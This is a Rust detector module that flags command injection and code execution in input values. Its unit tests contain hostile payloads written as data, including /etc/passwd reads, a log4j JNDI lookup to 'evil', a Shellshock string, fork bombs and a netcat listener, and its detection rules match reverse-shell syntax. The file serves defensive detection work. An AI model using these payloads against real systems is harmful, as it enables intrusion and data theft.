//! Command injection and code execution: shell commands, and code for interpreters that run
//! inside the application (template engines, PHP, Java expression languages, log4j lookups,
//! server-side includes).
//!
//! A command is only a command where a shell would start one: at the start of a value, or
//! after `;`, `|`, `&`, a newline, a backtick, `$(`. Many command names are also English words
//! (`cat`, `find`, `time`, `more`), so the vocabulary marks those, and they count only when
//! what follows looks like shell arguments (`-la`, `/etc/passwd`, a redirection) or nothing.
//! Commands are read in the shell view, where quoting tricks are already removed; where a
//! command starts, and what counts as arguments, is the business of the `command` child module.

mod code;
mod command;

pub(crate) use command::command_prefixes;

use code::code_rules;

use std::collections::HashMap;

use regex::RegexSet;

use crate::detect::{list_entries, DetectError};

/// How sure a command name alone makes us.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum CommandTier {
    /// Never an ordinary word (`whoami`): counts even alone at the start of a value.
    Unmistakable,
    /// A tool name (`curl`, `python`): counts after a shell separator, or at the start of a
    /// value when shell-like arguments follow.
    Tool,
    /// Also an everyday word (`cat`, `time`): needs shell-like arguments or nothing after it.
    WordLike,
}

/// Shell syntax read in the shell view.
const SYNTAX_RULES: &[&str] = &[
    // Aliases that rename a command, with the options bash and zsh accept before the name.
    r"\balias\s+(?:[-+][\w+-]*\s+){0,3}[\w.-]+=",
    // Output redirected into a system directory.
    r"(?:^|[\s;|&])\d?>{1,2}\s*/(?:tmp|dev|etc|var|root|home|usr|bin|proc|sys)/",
    // Reverse shells.
    r"/dev/(?:tcp|udp)/|>&\s*/dev/|\b0>&1\b|\bmkfifo\b|\bbash\s+-i\b|\bsh\s+-i\b|\bexec:\s*['\x22]?(?:/bin/)?(?:ba)?sh\b",
    // Globbing a system path: /e??/passwd, /et*/, /bin/c[a]t.
    r"/(?:[a-z]*[?\[][a-z?*\[\]/!^-]*|[a-z]+\*[a-z?*]*|\*[a-z]+[a-z?*]*)/[a-z?*\[\]]",
    r"/(?:etc|bin|usr|proc|dev|var|tmp|root|home|sys|opt|sbin|lib)/[a-z.]*(?:\?|\*|\[[!^]?[a-z\-/]+\])",
    // Tilde and history expansions standing alone as words.
    r"(?:^|[\s;|&])~[+-]\d*(?:$|[\s/;|&])|(?:^|[\s;|&])!-\d",
    r"/\?{2,}/",
];

/// Compiled command-injection vocabulary and rules.
pub(crate) struct ShellMatcher {
    commands: HashMap<String, CommandTier>,
    code: RegexSet,
    syntax: RegexSet,
}

impl ShellMatcher {
    /// Builds the matcher from the shell-commands list text.
    ///
    /// Fails when a line is not a plain command name (after its `!` or `~` marker).
    pub(crate) fn new(command_list: &str) -> Result<Self, DetectError> {
        let mut commands = HashMap::new();
        for (line, entry) in list_entries(command_list) {
            let (tier, name) = match entry.as_bytes()[0] {
                b'!' => (CommandTier::Unmistakable, &entry[1..]),
                b'~' => (CommandTier::WordLike, &entry[1..]),
                _ => (CommandTier::Tool, entry),
            };
            let valid = !name.is_empty()
                && name
                    .bytes()
                    .all(|byte| byte.is_ascii_alphanumeric() || b"_.+-".contains(&byte));
            if !valid {
                return Err(DetectError::InvalidEntry {
                    list: "shell-commands",
                    line,
                    entry: entry.to_string(),
                    reason: "a command is one word of letters, digits and _ . + -",
                });
            }
            commands.insert(name.to_ascii_lowercase(), tier);
        }
        if commands.is_empty() {
            return Err(DetectError::EmptyList {
                list: "shell-commands",
            });
        }
        Ok(Self {
            commands,
            code: super::rule_set(code_rules().iter().map(String::as_str)).map_err(rule_bug)?,
            syntax: super::rule_set(SYNTAX_RULES.iter().copied()).map_err(rule_bug)?,
        })
    }

    /// Says whether a value carries code or a shell command. `value_start` allows a command
    /// at the very start (not in URL paths, where a segment named `whoami` is just a page).
    pub(crate) fn is_injection(&self, canonical: &str, shell: &str, value_start: bool) -> bool {
        self.code.is_match(canonical)
            || self.syntax.is_match(shell)
            || is_fork_bomb(canonical)
            || self.has_command(canonical, shell, value_start)
    }

    /// The command names of the vocabulary, for the quiet-text screen.
    pub(crate) fn command_names(&self) -> impl Iterator<Item = &str> {
        self.commands.keys().map(String::as_str)
    }

    /// Finds a command, also with a version suffix (`python3.10`, `gcc10.1`). A word that
    /// ends with a full stop ends a sentence, not a command.
    fn lookup(&self, word: &str) -> Option<CommandTier> {
        if word.ends_with('.') {
            return None;
        }
        if let Some(tier) = self.commands.get(word) {
            return Some(*tier);
        }
        let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        if base.len() < word.len() && !base.is_empty() {
            return self.commands.get(base).copied();
        }
        None
    }
}

/// The regular expressions are constants; a failure to compile them is a programming error
/// that the unit tests catch, reported rather than panicking.
fn rule_bug(error: regex::Error) -> DetectError {
    DetectError::InvalidEntry {
        list: "built-in command-injection rules",
        line: 0,
        entry: error.to_string(),
        reason: "rule does not compile",
    }
}

/// A shell function that calls itself twice, once in the background, and is then run:
/// `:(){ :|:& };:` and its renamed variants. The name must recur in the body and after the
/// definition, which tells a fork bomb from a JavaScript or PHP function.
fn is_fork_bomb(canonical: &str) -> bool {
    let mut search_from = 0;
    while let Some(offset) = canonical[search_from..].find("()") {
        let open = search_from + offset;
        search_from = open + 2;
        let name = canonical[..open]
            .trim_end()
            .rsplit(|c: char| c.is_whitespace() || c == ';' || c == '{' || c == '}')
            .next()
            .unwrap_or("");
        let rest = canonical[open + 2..].trim_start();
        let (Some(body), false) = (rest.strip_prefix('{'), name.is_empty()) else {
            continue;
        };
        let Some(close) = body.find('}') else {
            continue;
        };
        let (inside, after) = (&body[..close], &body[close + 1..]);
        let calls_itself = inside.matches(name).count() >= 2 && inside.contains(['|', '&']);
        let then_runs = after.trim_start().strip_prefix(';').map(str::trim_start);
        if calls_itself && then_runs.is_some_and(|after| after.starts_with(name)) {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::normalize::{canonicalize, shell_view, PlusSign};

    const COMMANDS: &str = "!whoami\ncurl\nwget\nbash\nsh\npython\nls\n~cat\n~time\n~find\n~ping\n~more\n~id\n~top\n~echo\n~touch\n!cscli\npowershell\nchmod\nbcdboot\n";

    fn check(cases: &[(&str, bool)]) {
        let matcher = ShellMatcher::new(COMMANDS).expect("the test vocabulary is valid");
        let (mut canonical, mut shell) = (String::new(), String::new());
        for (raw, expected) in cases {
            canonicalize(raw, PlusSign::Literal, &mut canonical);
            shell_view(&canonical, &mut shell);
            assert_eq!(
                matcher.is_injection(&canonical, &shell, true),
                *expected,
                "{raw:?} (shell view {shell:?})"
            );
        }
    }

    #[test]
    fn commands_after_separators_are_found() {
        check(&[
            (";cat /etc/passwd", true),
            ("x|whoami", true),
            ("a && curl http://x", true),
            ("`id`", true),
            ("$(whoami)", true),
            ("1;id", true),
            ("c''at /etc/passwd", true),
            ("whoami", true),
            ("/bin/bash -c id", true),
            ("python3.10 -c 'print(1)'", true),
            ("time; curl x.io", true),
            ("${jndi:ldap://evil/a}", true),
            ("{{7*7}}", true),
            ("() { :;}; /bin/bash", true),
            (":(){ :|:& };:", true),
            ("f(){ f & f; };f", true),
            ("<(cat file)", true),
            ("$(cat$())", true),
            ("|$u wget test", true),
            ("x=1`echo${IFS}a`", true),
            ("\\ls", true),
            ("'cscli' alerts", true),
            ("pi``ng 127.0.0.1", true),
            ("bin/anything", true),
            (";flock -u / whoami", true),
            ("a=nc&&$a -nlvp 555", true),
            ("alias 'x'=curl", true),
            (">/tmp/out", true),
            ("for %v in (set) do command", true),
            ("powershell c:\\windows\\system32\\notepad.exe", true),
            ("${`id`}", true),
            ("1;.sh whoami", true),
            ("\r\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891", true),
            ("time curl example.org", true),
            (";chmod +x evil.php", true),
            (";touch test.txt&", true),
            ("1;more shell.php", true),
            ("ping`` 127.0.0.1", true),
            ("pi<()ng 127.0.0.1", true),
            ("{,$'whoami',}", true),
            ("&bcdboot < file.txt", true),
            ("<!--#exec cmd=\"ls\"-->", true),
            ("cat /e??/p?sswd", true),
            ("cmd /c dir", true),
            ("search=${url:UTF-8:https://example.com/}", true),
            ("search=${dns:address|example.com}", true),
            ("class.module.classLoader.URLs[0]=0", true),
            ("class.classLoader.DefaultAssertionStatus=x", true),
            (
                "s=/index/think/app/invokefunction&function=call_user_func_array",
                true,
            ),
        ]);
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        check(&[
            ("time warner", false),
            ("find x for y", false),
            ("ping pong tables", false),
            ("a hero; more than", false),
            ("hello; time he came", false),
            ("python tutorial", false),
            ("curl/7.81.0", false),
            ("wget", false),
            ("red;$5 each", false),
            ("Some text (in brackets).", false),
            ("function () { return 1; }", false),
            ("tom & jerry", false),
            ("function f() { return a || b && c; }", false),
            ("/top", false),
            ("/cgi-bin/test.cgi", false),
            ("use `python` here", false),
            ("Use `git status` and then `npm install` to set up.", false),
            ("the newest `1.51.x` patch release", false),
            ("```sh", false),
            ("GET /clients/{ip} the rap sheet", false),
            ("| `command_injection` | command injection |", false),
            ("- [anstyle-git](crates/git): Parse Git style", false),
            ("| name | diff ns/iter | speedup |", false),
            ("Read the post to learn\nmore.", false),
            ("encode options (at\nthe cost of size)", false),
            ("\ncat /etc/passwd", true),
            ("\nid", true),
            ("x\nid\n", true),
            ("|id", true),
            ("[build-dependencies]\ncmake = \"0.1\"", false),
            ("run `ls -la` first", true),
            ("whoami is a command that prints your name", false),
            ("time python tutorial", false),
            ("nice cat photos", false),
            ("shopping\nlist 3 things", false),
            ("see file.sh for details", false),
            ("the class loader explained", false),
            ("world class.", false),
            ("function=search&q=url", false),
            ("price ${url}", false),
            ("Trident/7.0; Touch; rv:11.0", false),
            ("done; more info.", false),
            ("meet at noon; time 10.30", false),
            ("great; more than 2.5 stars", false),
        ]);
    }
}
